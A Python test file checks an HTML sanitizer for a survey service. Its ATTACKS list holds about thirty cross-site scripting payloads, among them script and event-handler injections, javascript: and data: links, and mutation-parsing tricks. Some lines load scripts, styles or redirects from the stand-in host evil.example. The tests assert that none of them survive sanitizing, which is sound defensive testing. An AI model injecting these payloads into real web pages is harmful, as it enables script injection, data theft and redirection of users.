"""HTML of documents is reduced before it is stored: nothing in it can act, load or lead away."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from survey.services.collections.reduced_html import CELL_ATTRIBUTES, TAGS, VALUES, reduce_html

ATTACKS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<p onclick=alert(1) onmouseover='alert(1)'>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\nscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><foreignObject><p onclick=alert(1)>x</p></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>body { background: url(//evil.example/x) }</style>",
    "<p style='position:fixed;inset:0;background:url(//evil.example/x)' class=big id=main>x</p>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=grade value=3><button>Next</button></form>",
    "<input type=hidden name=csrf_token value=x>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example/x></object><embed src=//evil.example/x>",
    "<video src=//evil.example/x autoplay></video><audio src=x onerror=alert(1)></audio>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<template><img src=x onerror=alert(1)></template>",
    "<dialog open><form method=dialog></form></dialog>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<td lang='\"><img src=x onerror=alert(1)>' colspan='1 onclick=alert(1)'>x",
    "</p></main><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>x</details>",
    "<p dir=ltr dir='x' is=evil data-larger slot=x>x</p>",
    "<\x00script>alert(1)</script>",
]
TAG = re.compile(r"<(/?)([a-z][a-z0-9]*)((?: [a-z]+=\"[^\"<>]*\")*)>")


def faults(html):
    """What of reduced HTML is not allowed: all < that begin nothing of TAGS and VALUES."""
    kept = TAG.sub("", html)
    found = [kept] * ("<" in kept)
    for _, name, attributes in TAG.findall(html):
        found += [name] * (name not in TAGS)
        for attribute, value in re.findall(r' ([a-z]+)="([^"]*)"', attributes):
            is_allowed = attribute in VALUES and (
                name in ("td", "th") or attribute not in CELL_ATTRIBUTES
            )
            is_allowed = is_allowed and VALUES[attribute].fullmatch(value)
            found += [f"{name} {attribute}={value}"] * (not is_allowed)
    return found


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("around", ["{}", "<p>before {} after</p>", "<table><tr><td>a{}</table>"])
def test_no_attack_is_left(attack, around):
    html = reduce_html(around.format(attack)).html
    assert faults(html) == []
    assert reduce_html(html).html == html  # as a browser reads it, it is the same


@given(
    st.lists(
        st.sampled_from(
            [
                *(
                    "<",
                    ">",
                    "</",
                    "/>",
                    "<!--",
                    "-->",
                    "&lt;",
                    "<![CDATA[",
                    "]]>",
                    '"',
                    "'",
                    "=",
                    " ",
                ),
                *("script", "style", "svg", "math", "p", "table", "td", "onerror", "lang", "title"),
                *("<svg>", "<math>", "<style>", "<p>", "<a href=x>", "<td colspan=2>", "x"),
                *("<div>", "</div>", "<div lang='", "<hr", "<template>", "<mtext>", "<select>"),
            ]
        ),
        max_size=30,
    ).map("".join)
)
def test_nor_of_any_other_text(text):
    assert faults(reduce_html(text).html) == []


def test_text_and_its_layout_are_kept():
    html = (
        '<div lang="el"><h2 class="x" dir="rtl">Τίτλος</h2>one <b>two</b><br>H<sub>2</sub>O</div>'
        '<ul><li>a</li></ul><table><tr><th colspan="2" rowspan="1">b</th></tr></table>'
        "<pre> c\n d</pre>"
    )
    assert reduce_html(html).html == (
        '<h2 dir="rtl">Τίτλος</h2>one <b>two</b><br>H<sub>2</sub>O'
        "<ul><li>a</li></ul>"
        '<table><tbody><tr><th colspan="2" rowspan="1">b</th></tr></tbody></table>'
        "<pre> c\n d</pre>"
    )


def test_blocks_stay_apart():
    assert reduce_html("<div>a</div><section>b</section>").html == "<p>a</p><p>b</p>"


@pytest.mark.parametrize(
    ("html", "counts"),
    [
        (
            "<a href=/x>a</a><a href=http://x>b</a><a name=c>c</a><a href='javascript:x'>d</a>",
            (2, 0),
        ),
        ("x<img src=a><picture><source srcset=b><img src=c></picture><svg><path/></svg>", (0, 3)),
        ("<script>'<a href=x>'</script><!-- <img> -->x", (0, 0)),
    ],
)
def test_links_and_pictures_are_counted(html, counts):
    reduced = reduce_html(html)
    assert (reduced.links, reduced.pictures) == counts
    assert "<" not in reduced.html


def test_html_without_a_text_is_nothing():
    assert reduce_html("<script>x</script><p> </p><table><tr><td></td></tr></table>").html == ""
